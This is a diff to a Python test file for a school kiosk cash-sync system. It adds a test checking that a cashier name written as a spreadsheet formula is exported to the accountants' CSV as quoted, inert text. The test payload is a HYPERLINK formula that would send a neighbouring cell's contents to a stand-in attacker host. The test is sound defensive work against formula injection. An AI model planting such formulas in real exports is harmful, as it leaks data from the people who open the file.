@@ -18,7 +18,7 @@ from kiosk import sync_store
 from kiosk.service import KioskService
 from kiosk.store import Store
 from kiosk.sync_agent import SyncAgent, SyncError
-from sync_server.admin import managers
+from sync_server.admin import cashiers, managers
 from sync_server.money import refund_fence, refunds
 from sync_server.tables import audit_log, cash_counts
 
@@ -80,6 +80,19 @@ def test_a_count_short_of_the_takings_shows_its_difference_on_the_page_in_the_cs
             k1["counted_by"]) == ("K1", 30_00, 24_50, -5_50, True, "anne")
     assert (k1["cashiers"][0]["topup_count"], k1["cashiers"][0]["cancellation_count"]) == (2, 1)
     assert "Compté CHF 24.50 à 12:00, écart CHF -5.50 (signalé)" in run("server", "cash", "--day", DAY).stdout
+
+
+def test_a_cashier_name_written_as_a_formula_reaches_the_accountants_spreadsheet_as_text(school, tmp_path):
+    formula = '=HYPERLINK("http://evil.example/?"&E2,"Eve")'
+    with school.live.write() as conn:
+        cashiers.add_cashier(conn, "eve", formula, "2468", school.clock())
+    kiosk = synced_kiosk(tmp_path, school)
+    kiosk.cash_topup(kiosk.login("eve", "2468"), "P001", 10_00)
+    SyncAgent(kiosk.store, clock=school.clock).run_round()
+    exported = school.manager().get(f"/manage/cash.csv?day={DAY}")
+    [eve, _kiosk_row] = csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff")))
+    assert eve["cashier_id"] == "eve" and eve["cashier"] == "'" + formula and eve["topups_chf"] == "10.00"
+    assert "=HYPERLINK(" in text_of(school.manager().get(f"/manage/cash?day={DAY}"))  # the page shows it as it is
 
 
 @pytest.mark.parametrize("far", ["9999-12-31", "0001-01-01"])
